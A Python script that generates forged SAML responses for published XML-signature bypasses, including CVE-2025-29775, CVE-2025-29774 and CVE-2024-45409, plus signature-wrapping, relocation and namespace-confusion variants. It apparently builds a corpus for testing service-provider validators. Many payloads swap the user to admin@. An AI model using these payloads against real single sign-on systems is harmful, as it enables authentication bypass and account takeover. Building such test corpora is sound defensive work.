# The published attacks on parsers and signatures of 2018 to 2025.
from build import *
D6=W+'x6/'
def S(r): return etree.tostring(r).decode()
s=S(signed(response()))
# DigestValue comment (CVE-2025-29775 xml-crypto)
import re
dv=re.search(r'<ds:DigestValue>([^<]+)</ds:DigestValue>',s).group(1)
save('digest_comment', s.replace('>alice@','>admin@').replace('<ds:DigestValue>'+dv,'<ds:DigestValue><!--FAKE-->'+dv),D6)
# two SignedInfo (CVE-2025-29774)
si=re.search(r'<ds:SignedInfo>.*?</ds:SignedInfo>',s).group(0)
r=etree.fromstring(s.replace('>alice@','>admin@')); a=r.find('a:Assertion',NS); sg=a.find('d:Signature',NS); a.remove(sg); ndv=base64.b64encode(hashlib.sha256(c14n(a)).digest()).decode(); a.insert(1,sg); x=S(r)
save('two_signedinfo_fake_first', x.replace(si, si.replace(dv,ndv)+si),D6)
save('two_signedinfo_fake_last', x.replace(si, si+si.replace(dv,ndv)),D6)
# SignedInfo nested in Object (multiple)
save('signedinfo_in_object', x.replace(si, si.replace(dv,ndv)).replace('</ds:Signature>','<ds:Object>'+si+'</ds:Object></ds:Signature>'),D6)
# two DigestValues
save('two_digestvalue', x.replace('<ds:DigestValue>'+dv+'</ds:DigestValue>','<ds:DigestValue>'+ndv+'</ds:DigestValue><ds:DigestValue>'+dv+'</ds:DigestValue>'),D6)
# CVE-2024-45409: smuggled DigestValue in StatusDetail
save('cve_2024_45409', x.replace('<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>','<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/><samlp:StatusDetail><ds:DigestValue xmlns:ds="%s">%s</ds:DigestValue></samlp:StatusDetail>'%(D,ndv)).replace('<ds:DigestValue>'+dv+'</ds:DigestValue>',''),D6)
# signature moved to Response level / elsewhere while referencing assertion
r=etree.fromstring(s); a=r.find('a:Assertion',NS); sg=a.find('d:Signature',NS); a.remove(sg); r.insert(1,sg); save('sig_detached_to_response',r,D6)
r=etree.fromstring(s); a=r.find('a:Assertion',NS); sg=a.find('d:Signature',NS); a.remove(sg); st=r.find('p:Status',NS); d=etree.SubElement(st,'{%s}StatusDetail'%P); d.append(sg); save('sig_in_statusdetail',r,D6)
# signature only over NameID / sub element (signed, but does not cover assertion)
r=etree.fromstring(response()); n=r.find('.//a:Subject',NS); n.set('ID','_subj'); sign(n,pos=0); save('sig_covers_subject_only',r,D6)
# valid signature over a harmless signed element in Extensions + unsigned assertion
r=etree.fromstring(response()); e=etree.Element('{%s}Extensions'%P); x_=etree.SubElement(e,'{urn:x}x'); x_.set('ID','_x'); r.insert(1,e); sign(x_,pos=0); save('sig_covers_extension_only',r,D6)
# signed metadata-like element replay: Assertion of another type? LogoutResponse signed used as response
lr=f'<samlp:LogoutResponse xmlns:samlp="{P}" xmlns:saml="{A}" ID="_lr" Version="2.0" IssueInstant="{ts()}" InResponseTo="req1" Destination="{ACS}"><saml:Issuer>{IDP}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:LogoutResponse>'
r=etree.fromstring(lr); sign(r); save('signed_logoutresponse_as_response',r,D6)
# golden: signed logoutresponse wrapped with unsigned assertion
r2=etree.fromstring(response()); r2.insert(1,copy.deepcopy(r)); save('signed_logoutresponse_nested_unsigned_assertion',r2,D6)
# bare signed Assertion as root
r=signed(response()); save('bare_assertion_root', etree.tostring(r.find('a:Assertion',NS)),D6)
# namespace confusion: Assertion in other namespace prefixed same
save('ns_confusion_attr', s.replace('<saml:Assertion ','<saml:Assertion xmlns:evil="urn:evil" evil:ID="_evil" ',1),D6)
save('ID_lowercase', s.replace(' ID="_ass1"',' Id="_ass1"'),D6)
save('attr_pollution', s.replace('<samlp:Response ','<samlp:Response xmlns:x="urn:x" x:ID="_ass1" ',1),D6)
# inclusive namespaces PrefixList
r=etree.fromstring(response()); a=r.find('a:Assertion',NS)
dig=base64.b64encode(hashlib.sha256(etree.tostring(a,method='c14n',exclusive=True,inclusive_ns_prefixes=['xs'])).digest()).decode()
sg=sign(a, transforms=f'<ds:Transform Algorithm="{ENV}"/><ds:Transform Algorithm="{EXC}"><ec:InclusiveNamespaces xmlns:ec="{EXC}" PrefixList="xs"/></ds:Transform>')
dvn=sg.find('.//d:DigestValue',NS); dvn.text=dig; si_=sg.find('d:SignedInfo',NS); sg.find('d:SignatureValue',NS).text=base64.b64encode(key('idp').sign(c14n(si_),padding.PKCS1v15(),hashes.SHA256())).decode(); save('ok_inclusive_prefixlist',r,D6)
# inclusive c14n signature
C14='http://www.w3.org/TR/2001/REC-xml-c14n-20010315'
r=etree.fromstring(response()); a=r.find('a:Assertion',NS)
dig=base64.b64encode(hashlib.sha256(etree.tostring(a,method='c14n')).digest()).decode()
sg=sign(a, transforms=f'<ds:Transform Algorithm="{ENV}"/><ds:Transform Algorithm="{C14}"/>'); sg.find('.//d:DigestValue',NS).text=dig; si_=sg.find('d:SignedInfo',NS); sg.find('d:SignatureValue',NS).text=base64.b64encode(key('idp').sign(c14n(si_),padding.PKCS1v15(),hashes.SHA256())).decode(); save('ok_inclusive_c14n',r,D6)
